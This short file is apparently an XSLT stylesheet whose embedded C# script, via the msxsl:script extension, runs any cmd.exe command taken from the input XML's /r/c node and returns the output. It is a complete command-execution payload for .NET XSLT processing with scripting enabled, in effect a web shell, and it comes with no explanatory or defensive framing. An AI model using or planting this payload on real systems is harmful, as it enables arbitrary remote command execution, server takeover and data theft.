<?xml version="1.0"?>
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"
    xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="urn:u">
  <msxsl:script language="C#" implements-prefix="user">
    <![CDATA[
    public string run(string c) {
        var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false });
        return p.StandardOutput.ReadToEnd();
    }
    ]]>
  </msxsl:script>
  <xsl:template match="/"><xsl:value-of select="user:run(string(/r/c))"/></xsl:template>
</xsl:stylesheet>
